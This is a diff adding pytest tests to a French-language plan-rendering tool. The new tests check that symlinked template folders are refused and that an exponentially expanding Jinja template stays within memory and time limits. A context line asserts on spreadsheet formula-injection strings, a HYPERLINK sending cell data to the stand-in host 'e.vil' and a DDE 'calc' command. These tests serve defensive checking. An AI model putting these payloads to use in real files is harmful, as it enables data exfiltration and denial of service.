@@ -231,3 +231,66 @@ def test_no_text_of_a_mission_becomes_a_formula_in_the_workbook(tmp_path):
     assert done.returncode == 0, done.stderr
     csv = (tmp_path / "plan.csv").read_text(encoding="utf-8", errors="replace")
     assert 'HYPERLINK(""https://e.vil/?d=""&A5,""Sophie"")' in csv and "cmd|' /C calc'!A0" in csv
+
+
+# templates: no symbolic link, compiling within the bounds ------------------------------------------
+
+NB = "\u00a0"
+
+
+def _override(root, text, name="templates/html/pilotage.html.j2"):
+    (root / name).parent.mkdir(parents=True, exist_ok=True)
+    (root / name).write_text(text, encoding="utf-8")
+
+
+def test_a_templates_folder_that_is_a_symbolic_link_is_refused(example_in_cwd, pmp):
+    root = example_in_cwd.parent.parent
+    (root / "templates").symlink_to(".")  # the whole workspace as templates
+    _override(root, "{% include 'missions/ressourcerie-du-val/questions.yaml' %}", "html/pilotage.html.j2")
+    before = snapshot(root)
+    r = pmp("render", "ressourcerie-du-val", "--format", "html", "--as-of", "2026-11-26")
+    assert r.exit_code == 2
+    assert r.stderr == (
+        f"pmp : templates est un lien symbolique{NB}: pmp ne lit pas un dossier de modèles à travers un lien{NB}; "
+        "remplacez-le par un vrai dossier\n"
+    )
+    assert snapshot(root) == before
+
+
+def test_a_folder_of_templates_that_is_a_symbolic_link_is_refused(example_in_cwd, pmp):
+    root = example_in_cwd.parent.parent
+    (root / "templates").mkdir()
+    _override(root, "{% include 'html/questions.yaml' %}", "elsewhere/pilotage.html.j2")
+    (root / "elsewhere" / "questions.yaml").symlink_to(root / "missions" / "ressourcerie-du-val" / "questions.yaml")
+    (root / "templates" / "html").symlink_to(root / "elsewhere")
+    r = pmp("render", "ressourcerie-du-val", "--format", "html", "--as-of", "2026-11-26")
+    assert r.exit_code == 2 and "Traceback" not in r.output
+    assert "ce modèle est un lien vers un fichier hors du dossier des modèles (templates)" in r.stderr
+
+
+def test_a_link_below_the_templates_folder_is_refused_even_leading_inside(example_in_cwd, pmp):
+    root = example_in_cwd.parent.parent
+    _override(root, "{% include 'html/parts/x.j2' %}")
+    _override(root, "SECRET", "templates/md/x.j2")
+    (root / "templates" / "html" / "parts").symlink_to(root / "templates" / "md")
+    r = pmp("render", "ressourcerie-du-val", "--format", "html", "--as-of", "2026-11-26")
+    assert r.exit_code == 2
+    assert f"templates/html/parts est un lien symbolique{NB}: pmp ne lit pas de modèle à travers un lien" in r.stderr
+    assert not (example_in_cwd / "out").exists()
+
+
+def test_a_template_folded_while_compiling_meets_the_memory_and_time_bounds(example_in_cwd, pmp):
+    import resource
+    import time
+
+    root = example_in_cwd.parent.parent
+    chain = "'" + "x" * 10 + "'" + "|replace('x', 'xxxxxxxxxx')" * 12  # 10**13 characters once folded
+    _override(root, "<p>\n{{ " + chain + " }}")
+    start, peak = time.monotonic(), resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
+    r = pmp("render", "ressourcerie-du-val", "--format", "html", "--as-of", "2026-11-26")
+    assert time.monotonic() - start < 10
+    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - peak < 700 * 1024  # KiB
+    assert r.exit_code == 2
+    assert r.stderr.startswith("pmp : templates/html/pilotage.html.j2:2")
+    assert "dépasse la taille permise dans un modèle" in r.stderr
+    assert not (example_in_cwd / "out").exists()
